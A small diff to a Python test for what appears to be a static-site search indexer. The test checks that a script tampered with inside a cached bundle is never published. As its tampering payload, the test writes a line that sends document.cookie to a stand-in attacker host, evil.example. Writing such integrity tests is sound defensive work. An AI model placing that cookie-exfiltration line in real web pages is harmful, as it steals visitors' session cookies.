@@ -178,7 +178,7 @@ def test_a_file_added_to_a_bundle_in_the_cache_is_never_published(tmp_path):
     output = tmp_path / "output"
     first = index([RECORDS[0]], tmp_path)
     first.place(str(output / "one"))
-    script = first.bundles[0].files["pagefind.js"]
+    script = Path(first.bundles[0].files["pagefind.js"])
     made = script.read_bytes()
     os.chmod(script, 0o644)
     script.write_text("fetch('https://evil.example/?' + document.cookie)")
